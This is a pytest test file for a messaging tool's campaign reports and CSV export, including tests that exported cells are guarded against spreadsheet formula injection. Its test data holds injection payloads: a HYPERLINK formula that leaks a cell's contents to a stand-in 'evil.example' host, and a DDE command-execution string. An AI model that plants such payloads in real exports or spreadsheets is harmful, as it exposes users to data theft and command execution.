"""`campaign_report` and `export_campaign` on SQLite and PostgreSQL: numbers of hand-built
campaigns, the ref breakdown, CSV rows and formula safety, a 200,000-row export in constant
memory; then a real campaign through a worker and the sandbox, checked against the sandbox's
own log of what it accepted; and the `report` / `export` commands."""

from __future__ import annotations

import csv
import io
import json
import os
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import BigInteger, Engine, String, cast, event, insert, literal, select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from stickerq.cli import app
from stickerq.errors import CampaignNotFound
from stickerq.export import COLUMNS, export_campaign, guard_cell, iso_utc, unguard_cell
from stickerq.models import Campaign, Message
from stickerq.producer.api import enqueue_campaign
from stickerq.producer.reports import campaign_report
from stickerq.producer.request import CampaignRequest
from stickerq.sandbox import SandboxServer
from stickerq.settings import Settings
from tests.conftest import SENDER, STICKER_ID, make_settings, wait_until
from tests.helpers import Db

T0 = datetime(2024, 5, 1, 9, 0, tzinfo=UTC)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NASTY_REFS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@x",
    "\uff1dSUM(1)",
    "'=already quoted",
    "'plain quoted",
    'a "quoted", comma',
    "plain",
    "2024-01-01",
]


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def phone(n: int) -> str:
    return f"+9198{n:08d}"


def add_campaign(session: Session, **fields: Any) -> int:
    values: dict[str, Any] = {"name": "hand-built", "sid": "HXAP16XXXXXX97IN", "sender": SENDER}
    values.update(fields)
    return session.execute(insert(Campaign).values(**values).returning(Campaign.id)).scalar_one()


def add_messages(session: Session, campaign_id: int, rows: list[dict[str, Any]]) -> None:
    session.execute(
        insert(Message), [{"campaign_id": campaign_id, "created_at": T0, **row} for row in rows]
    )


def read_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """Header and rows of an export, every cell un-guarded as a program reading it would."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    return header, [dict(zip(header, map(unguard_cell, row), strict=True)) for row in reader]


def assert_no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(TRIGGERS), repr(cell)
            assert not cell.lstrip(" \t\r\n").startswith(TRIGGERS), repr(cell)


# --- the report ---------------------------------------------------------------------------------

# recipient index -> (status, code, attempts, sent_at, delivered_at, read_at)
HAND_BUILT = {
    0: ("read", None, 1, at(10), at(20), at(30)),
    1: ("read", None, 1, at(12), None, at(40)),  # only the read callback arrived
    2: ("delivered", None, 1, at(14), at(25), None),
    3: ("sent", None, 1, at(16), None, None),
    4: ("sent", None, 2, at(18), None, None),  # a WA500, then accepted
    5: ("sent", None, 1, at(60), None, None),
    6: ("failed", "WA400", 1, None, None, None),
    7: ("failed", "131047", 1, at(20), None, None),  # sent; the callback said failed
    8: ("unknown", None, 1, None, None, None),
    9: ("parked", "E110", 1, None, None, None),
    10: ("pending", None, 0, None, None, None),
    11: ("failed", "WA500", 4, None, None, None),
}


def hand_built_campaign(session: Session) -> int:
    campaign_id = add_campaign(
        session, status="completed", started_at=at(5), finished_at=at(105), recipient_count=12
    )
    rows = [
        {
            "recipient": phone(n),
            "status": status,
            "last_error_code": code,
            "attempts": attempts,
            "sent_at": sent,
            "delivered_at": delivered,
            "read_at": read,
            "message_id": f"SBX{n:04d}" if sent else None,
            "ref": f"customer{n}",
            "ref1": "marketing" if n % 2 else "sales",
            "ref2": None,
        }
        for n, (status, code, attempts, sent, delivered, read) in HAND_BUILT.items()
    ]
    add_messages(session, campaign_id, rows)
    return campaign_id


def test_report_counts_statuses_codes_callbacks_rates_and_duration(
    sessions: sessionmaker[Session],
) -> None:
    with sessions.begin() as session:
        campaign_id = hand_built_campaign(session)

    with sessions() as session:
        report = campaign_report(session, campaign_id)

    assert report.recipients == 12
    assert report.by_status == {
        "pending": 1, "sending": 0, "sent": 3, "delivered": 1, "read": 2,
        "parked": 1, "failed": 3, "unknown": 1, "cancelled": 0, "expired": 0,
        "suppressed": 0, "outside_window": 0,
    }  # fmt: skip
    assert report.by_code == {"131047": 1, "E110": 1, "WA400": 1, "WA500": 1}
    assert (report.succeeded, report.success_rate) == (6, 0.5)
    assert report.sent == 7  # the 131047 one was sent before it failed
    assert (report.delivered, report.read) == (3, 2)  # a read message was delivered
    assert report.attempts == sum(row[2] for row in HAND_BUILT.values())
    assert (report.first_sent_at, report.last_sent_at) == (at(10), at(60))
    # 11 settled (the pending one aside) over started -> finished; done, so no ETA
    assert (report.pace.rate, report.pace.remaining) == (pytest.approx(11 / 100), 1)
    assert report.pace.eta is None
    assert report.duration_seconds == pytest.approx(100)
    assert report.breakdown is None
    assert report.success_rate == 0.5
    assert iso_utc(report.started_at) == "2024-05-01T09:00:05.000000Z"


def test_report_pace_and_duration_run_to_now_while_unfinished_and_are_null_unstarted(
    sessions: sessionmaker[Session],
) -> None:
    with sessions.begin() as session:
        one_sent = add_campaign(session, started_at=at(0), finished_at=at(4), recipient_count=1)
        add_messages(session, one_sent, [{"recipient": phone(1), "status": "sent",
                                          "sent_at": at(2)}])  # fmt: skip
        running = add_campaign(session, status="running", started_at=at(0), recipient_count=4)
        statuses = ["sent", "failed", "pending", "pending"]
        add_messages(session, running, [{"recipient": phone(n), "status": status}
                                        for n, status in enumerate(statuses)])  # fmt: skip
        never = add_campaign(session, status="scheduled")
        empty = add_campaign(session)

    with sessions() as session:
        single = campaign_report(session, one_sent)
        so_far = campaign_report(session, running, now=at(30))
        unstarted = campaign_report(session, never)
        nothing = campaign_report(session, empty)

    assert single.pace.rate == pytest.approx(1 / 4)  # started → finished
    assert so_far.duration_seconds == pytest.approx(30)
    assert (so_far.pace.rate, so_far.pace.remaining) == (pytest.approx(2 / 30), 2)
    assert so_far.pace.eta is not None  # the 2 left at 2 settled in 30 s: 30 s more
    assert abs(so_far.pace.eta - at(60)) < timedelta(milliseconds=1)
    assert (unstarted.duration_seconds, unstarted.pace.rate) == (None, None)
    assert (nothing.recipients, nothing.success_rate) == (0, None)
    assert nothing.first_sent_at is None


def test_report_of_an_unknown_campaign_raises_campaign_not_found(
    sessions: sessionmaker[Session],
) -> None:
    with sessions() as session, pytest.raises(CampaignNotFound, match="no campaign 424242"):
        campaign_report(session, 424242)


# ref1 value -> statuses of its messages, largest group first
GROUPS: dict[str | None, list[str]] = {
    "spring": ["sent"] * 7 + ["read"] * 2 + ["failed"],
    "summer": ["sent"] * 4 + ["unknown"] * 2,
    "=autumn": ["sent"] * 3 + ["parked"] * 2,
    None: ["sent", "failed", "failed", "pending"],
    "winter": ["delivered"] * 3,
    "zz": ["failed", "sent"],
}


@pytest.fixture
def statements(sessions: sessionmaker[Session]) -> Iterator[list[tuple[str, Any, Any]]]:
    """Every statement run on the sessions' engine: (SQL, execution context, DBAPI cursor)."""
    engine: Engine = sessions.kw["bind"]
    seen: list[tuple[str, Any, Any]] = []

    def record(
        conn: Any, cursor: Any, statement: str, params: Any, context: Any, many: Any
    ) -> None:
        seen.append((statement, context, cursor))

    event.listen(engine, "before_cursor_execute", record)
    yield seen
    event.remove(engine, "before_cursor_execute", record)


def test_report_by_ref1_counts_each_group_in_sql_and_sums_the_rest_as_other(
    sessions: sessionmaker[Session], statements: list[tuple[str, Any, Any]]
) -> None:
    with sessions.begin() as session:
        campaign_id = add_campaign(session)
        rows, n = [], 0
        for ref1, statuses in GROUPS.items():
            for status in statuses:
                rows.append({"recipient": phone(n), "status": status, "ref1": ref1,
                             "ref2": f"r2-{n % 2}"})  # fmt: skip
                n += 1
        add_messages(session, campaign_id, rows)

    statements.clear()
    with sessions() as session:
        top3 = campaign_report(session, campaign_id, by="ref1", top=3)
    queries = [sql for sql, _, _ in statements if "FROM messages" in sql]  # not its counters
    with sessions() as session:
        every = campaign_report(session, campaign_id, by="ref1", top=10)
        by_ref2 = campaign_report(session, campaign_id, by="ref2")

    assert top3.breakdown is not None
    breakdown = top3.breakdown
    assert (breakdown.by, breakdown.top, breakdown.group_count) == ("ref1", 3, 6)
    assert [(g.value, g.recipients) for g in breakdown.groups] == [
        ("spring", 10), ("summer", 6), ("=autumn", 5)
    ]  # fmt: skip
    spring = breakdown.groups[0]
    assert (spring.by_status["sent"], spring.by_status["read"]) == (7, 2)
    assert (spring.by_status["failed"], spring.succeeded, spring.success_rate) == (1, 9, 0.9)
    other = breakdown.other
    assert other is not None and other.recipients == 9
    assert {k: v for k, v in other.by_status.items() if v} == {
        "sent": 2, "failed": 3, "pending": 1, "delivered": 3
    }  # fmt: skip
    assert len(queries) == 5  # aggregates, whatever the number of rows
    assert all("count(" in sql.lower() for sql in queries), queries

    assert every.breakdown is not None and every.breakdown.other is None
    by_value = {g.value: g for g in every.breakdown.groups}
    assert set(by_value) == set(GROUPS)
    assert by_value[None].by_status["failed"] == 2
    assert by_value["winter"].by_status["delivered"] == 3
    assert by_ref2.breakdown is not None
    assert {g.value: g.recipients for g in by_ref2.breakdown.groups} == {"r2-0": 15, "r2-1": 15}

    with sessions() as session, pytest.raises(ValueError, match="ref, ref1, ref2"):
        campaign_report(session, campaign_id, by="name")  # type: ignore[arg-type]


# --- the export ---------------------------------------------------------------------------------


def test_export_writes_the_header_and_one_row_per_recipient_with_utc_timestamps(
    sessions: sessionmaker[Session],
) -> None:
    with sessions.begin() as session:
        campaign_id = hand_built_campaign(session)
        other = add_campaign(session)
        add_messages(session, other, [{"recipient": phone(99)}])
    out = io.StringIO(newline="")

    with sessions() as session:
        written = export_campaign(session, campaign_id, out)

    header, rows = read_csv(out.getvalue())
    assert header == list(COLUMNS)
    assert written == len(rows) == 12
    assert [row["recipient"] for row in rows] == [phone(n) for n in HAND_BUILT]
    first, failed = rows[0], rows[6]
    assert first == {
        "recipient": phone(0), "sender": SENDER, "message_id": "SBX0000", "ref": "customer0",
        "ref1": "sales", "ref2": "", "status": "read", "error_code": "", "attempts": "1",
        "created_at": "2024-05-01T09:00:00.000000Z", "last_attempt_at": "",
        "sent_at": "2024-05-01T09:00:10.000000Z", "delivered_at": "2024-05-01T09:00:20.000000Z",
        "read_at": "2024-05-01T09:00:30.000000Z", "outside_window": "",
    }  # fmt: skip
    assert (failed["status"], failed["error_code"], failed["message_id"]) == ("failed", "WA400", "")
    for row in rows:
        for column in ("created_at", "sent_at", "delivered_at", "read_at"):
            if row[column]:
                assert datetime.fromisoformat(row[column]).utcoffset() == timedelta(0)
    assert_no_formula(out.getvalue())


def test_export_never_writes_a_cell_a_spreadsheet_would_run_as_a_formula(
    sessions: sessionmaker[Session],
) -> None:
    with sessions.begin() as session:
        campaign_id = add_campaign(session)
        add_messages(session, campaign_id, [
            {"recipient": phone(n), "ref": nasty, "ref1": nasty[::-1], "ref2": nasty,
             "message_id": nasty, "last_error_code": "-1"}
            for n, nasty in enumerate(NASTY_REFS)
        ])  # fmt: skip
    out = io.StringIO(newline="")

    with sessions() as session:
        export_campaign(session, campaign_id, out)

    text = out.getvalue()
    assert_no_formula(text)
    raw = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert raw[0][0] == f"'{phone(0)}"  # E.164 starts with +: guarded like any other cell
    message_id, error_code = COLUMNS.index("message_id"), COLUMNS.index("error_code")
    assert raw[0][message_id] == "'" + NASTY_REFS[0]
    assert raw[NASTY_REFS.index("plain")][message_id] == "plain"
    assert raw[NASTY_REFS.index("2024-01-01")][message_id] == "2024-01-01"
    assert raw[NASTY_REFS.index("'plain quoted")][message_id] == "'plain quoted"
    assert raw[0][error_code] == "'-1"
    _, rows = read_csv(text)
    assert [(r["recipient"], r["ref"], r["ref1"], r["message_id"]) for r in rows] == [
        (phone(n), nasty, nasty[::-1], nasty) for n, nasty in enumerate(NASTY_REFS)
    ]


@given(st.text(max_size=12))
def test_guard_cell_defuses_any_text_and_unguard_cell_gives_it_back(value: str) -> None:
    guarded = guard_cell(value)
    assert not guarded.lstrip(" \t\r\n\0\u3000").startswith(TRIGGERS)
    assert unguard_cell(guarded) == value


def bulk_insert_messages(session: Session, campaign_id: int, count: int) -> None:
    """`count` messages made by the database itself (a recursive CTE): fast on both backends."""
    numbers = select(literal(1).label("i")).cte("numbers", recursive=True)
    numbers = numbers.union_all(select(numbers.c.i + 1).where(numbers.c.i < count))
    text_i = cast(numbers.c.i, String)
    session.execute(
        insert(Message).from_select(
            ["campaign_id", "recipient", "ref", "ref1", "ref2", "status", "attempts",
             "delayed_retries", "message_id", "created_at", "sent_at"],
            select(
                literal(campaign_id),
                literal("+91") + cast(literal(9_000_000_000, BigInteger) + numbers.c.i, String),
                literal("customer-") + text_i,
                literal("=HYPERLINK(") + text_i,
                literal("+cmd ") + text_i,
                literal("sent"),
                literal(1),
                literal(0),
                literal("SBX") + text_i,
                literal(T0, Message.created_at.type),
                literal(at(1), Message.sent_at.type),
            ),
        )
    )  # fmt: skip


def peak_memory_growth(work: Callable[[], object]) -> int:
    """Bytes the process's peak memory grew by while `work` ran.

    Peak RSS (reset through /proc/self/clear_refs) counts C buffers too, such as the whole
    result set a client-side PostgreSQL cursor would hold; tracemalloc sees only Python's.
    """
    clear_refs = Path("/proc/self/clear_refs")
    if not os.access(clear_refs, os.W_OK):  # not Linux: Python allocations only
        tracemalloc.start()
        try:
            work()
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def status(field: str) -> int:
        line = next(
            x for x in Path("/proc/self/status").read_text().splitlines() if x.startswith(field)
        )
        return int(line.split()[1]) * 1024

    clear_refs.write_text("5")  # the peak starts again from the current size
    before = status("VmRSS:")
    work()
    return status("VmHWM:") - before


def test_export_of_200000_rows_streams_in_constant_memory(
    sessions: sessionmaker[Session], tmp_path: Path, statements: list[tuple[str, Any, Any]]
) -> None:
    count = 200_000
    with sessions.begin() as session:
        campaign_id = add_campaign(session)
        bulk_insert_messages(session, campaign_id, count)
    path = tmp_path / "big.csv"
    statements.clear()
    written: list[int] = []

    def export() -> None:
        with sessions() as session, path.open("w", newline="", encoding="utf-8") as out:
            written.append(export_campaign(session, campaign_id, out))

    growth = peak_memory_growth(export)

    assert written == [count]
    size = path.stat().st_size
    assert size > 25 * 2**20  # the rows alone, held at once, would take several times this
    assert growth < 20 * 2**20, f"peak grew {growth / 2**20:.1f} MiB: the export is not streamed"
    [(_, context, cursor)] = [row for row in statements if "FROM messages" in row[0]]
    assert context.execution_options.get("stream_results") is True
    if context.dialect.name == "postgresql":
        assert isinstance(cursor, psycopg.ServerCursor)  # rows arrive as they are read
    with path.open(newline="", encoding="utf-8") as rows:
        reader = csv.reader(rows)
        assert next(reader) == list(COLUMNS)
        first = next(reader)
        assert first[:6] == [
            "'+919000000001", "'+919000000001", "SBX1", "customer-1", "'=HYPERLINK(1", "'+cmd 1"
        ]  # fmt: skip
        assert sum(1 for _ in reader) == count - 1


# --- end to end: a real worker, the sandbox, and the sandbox's own log --------------------------


def test_report_and_export_match_what_the_sandbox_accepted(
    settings: Settings,
    sandbox: SandboxServer,
    run_worker: Callable[[Settings], None],
    tmp_path: Path,
) -> None:
    recipients = [phone(n) for n in range(50)]
    wa400, dropped = set(recipients[3:6]), {recipients[10], recipients[40]}
    refs = {
        r: (f"cust-{n}", ["north", "south", "=east", "@west"][n % 4], NASTY_REFS[n % 4])
        for n, r in enumerate(recipients)
    }
    audience = tmp_path / "audience.csv"
    with audience.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["phone", "ref", "ref1", "ref2"])
        writer.writerows([r, *refs[r]] for r in recipients)
    sandbox.script({r: ["WA400"] for r in wa400} | {r: ["DROP"] for r in dropped})
    run_worker(settings)
    db = Db(settings)

    campaign_id = enqueue_campaign(
        settings, CampaignRequest(sticker_id=STICKER_ID, to_file=audience)
    ).campaign_id
    wait_until(lambda: db.settled(campaign_id), timeout=30)
    accepted = {row["recipient"]: row for row in sandbox.accepted()}
    with db.sessions() as session:
        report = campaign_report(session, campaign_id, by="ref1")
        out = io.StringIO(newline="")
        written = export_campaign(session, campaign_id, out)
    db.close()

    assert len(accepted) == len(sandbox.accepted()) == 45  # nobody accepted twice
    assert set(accepted) == set(recipients) - wa400 - dropped
    assert report.recipients == written == 50
    assert {k: v for k, v in report.by_status.items() if v} == {
        "sent": 45, "failed": 3, "unknown": 2
    }  # fmt: skip
    assert report.by_code == {"WA400": 3}
    assert report.sent == len(accepted)
    assert report.success_rate == pytest.approx(0.9)
    assert (report.delivered, report.read) == (0, 0)
    assert report.pace.rate is not None and report.pace.rate > 0
    assert report.breakdown is not None
    assert {g.value: g.recipients for g in report.breakdown.groups} == {
        "north": 13, "south": 13, "=east": 12, "@west": 12
    }  # fmt: skip
    assert sum(g.succeeded for g in report.breakdown.groups) == 45

    assert_no_formula(out.getvalue())
    _, rows = read_csv(out.getvalue())
    assert sorted(row["recipient"] for row in rows) == sorted(recipients)
    for row in rows:
        recipient = row["recipient"]
        assert (row["ref"], row["ref1"], row["ref2"]) == refs[recipient]
        if recipient in accepted:
            log = accepted[recipient]
            assert row["status"] == "sent"
            assert (row["message_id"], row["ref"], row["ref1"], row["ref2"]) == (
                log["message_id"], log["ref"], log["ref1"], log["ref2"]
            )  # fmt: skip
            assert row["sent_at"] and row["error_code"] == ""
        else:
            assert row["message_id"] == ""
            expected = ("failed", "WA400") if recipient in wa400 else ("unknown", "")
            assert (row["status"], row["error_code"]) == expected
            assert row["sent_at"] == ""
        assert row["attempts"] == "1"


# --- the commands -------------------------------------------------------------------------------


@pytest.fixture
def cli_settings(pg_database: str, redis_prefix: str) -> Settings:
    return make_settings(pg_database, redis_prefix, "http://127.0.0.1:9")


def run(settings: Settings, *args: str) -> Any:
    env: dict[str, str | None] = {key: None for key in os.environ if key.startswith("STICKERQ_")}
    env.update(settings.as_environment(), COLUMNS="200")
    return CliRunner().invoke(app, list(args), env=env)


def stored_campaign(settings: Settings) -> int:
    db = Db(settings)
    try:
        with db.sessions.begin() as session:
            return hand_built_campaign(session)
    finally:
        db.close()


def test_report_json_prints_the_documented_document(cli_settings: Settings) -> None:
    campaign_id = stored_campaign(cli_settings)

    result = run(cli_settings, "report", str(campaign_id), "--json", "--by", "ref1")

    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert list(document) == [
        "campaign_id", "name", "status", "sender", "recipients", "by_status", "by_code",
        "succeeded", "success_rate", "attempts", "sent", "delivered", "read", "created_at",
        "started_at", "finished_at", "first_sent_at", "last_sent_at", "duration_seconds",
        "pace", "breakdown", "outside_window", "messages_purged_at",
    ]  # fmt: skip
    assert (document["campaign_id"], document["recipients"]) == (campaign_id, 12)
    assert (document["succeeded"], document["delivered"], document["read"]) == (6, 3, 2)
    assert [g["value"] for g in document["breakdown"]["groups"]] == ["marketing", "sales"]
    docs = (Path(__file__).parents[2] / "docs" / "json.md").read_text(encoding="utf-8")
    assert all(f'"{key}": ' in docs for key in document)


def test_report_prints_tables_of_totals_and_of_the_breakdown(cli_settings: Settings) -> None:
    campaign_id = stored_campaign(cli_settings)

    result = run(cli_settings, "report", str(campaign_id), "--by", "ref1")

    assert result.exit_code == 0, result.output
    for text in ("succeeded (sent or better)", "50.0%", "code 131047", "24-hour window",
                 "0.1 msg/s", "1m 40s", "by ref1", "marketing", "sales"):  # fmt: skip
        assert text in result.stdout


def test_report_and_export_of_an_unknown_campaign_exit_2(
    cli_settings: Settings, tmp_path: Path
) -> None:
    target = tmp_path / "out.csv"
    for args in (["report", "424242", "--json"], ["export", "424242", "--csv", str(target)]):
        result = run(cli_settings, *args)
        assert result.exit_code == 2, result.output
        assert "no campaign 424242" in result.stderr
        assert result.stdout == ""
    assert list(tmp_path.iterdir()) == []  # no empty or partial file left behind

    bad = run(cli_settings, "report", "1", "--by", "name")
    assert bad.exit_code == 2
    assert "choose one of ref, ref1, ref2" in bad.stderr


def test_export_csv_dash_writes_the_csv_to_stdout_and_a_path_writes_the_file(
    cli_settings: Settings, tmp_path: Path
) -> None:
    campaign_id = stored_campaign(cli_settings)

    to_stdout = run(cli_settings, "export", str(campaign_id), "--csv", "-")

    assert to_stdout.exit_code == 0, to_stdout.output
    header, rows = read_csv(to_stdout.stdout)
    assert header == list(COLUMNS)
    assert [row["recipient"] for row in rows] == [phone(n) for n in HAND_BUILT]
    assert "12 rows written to stdout" in to_stdout.stderr

    target = tmp_path / "out.csv"
    to_file = run(cli_settings, "export", str(campaign_id), "--csv", str(target))
    assert to_file.exit_code == 0, to_file.output
    assert target.read_text(encoding="utf-8") == to_stdout.stdout
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    assert iso_utc(at(10)) in to_stdout.stdout

    missing_dir = run(cli_settings, "export", str(campaign_id), "--csv", str(tmp_path / "no/x"))
    assert missing_dir.exit_code == 2
    assert "cannot write" in missing_dir.stderr


@pytest.mark.parametrize("command", ["report", "export"])
def test_report_and_export_have_help(command: str) -> None:
    result = CliRunner().invoke(app, [command, "--help"], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    assert f" {command} [OPTIONS]" in result.output
    if command == "export":
        assert "'+919812345678" in result.output
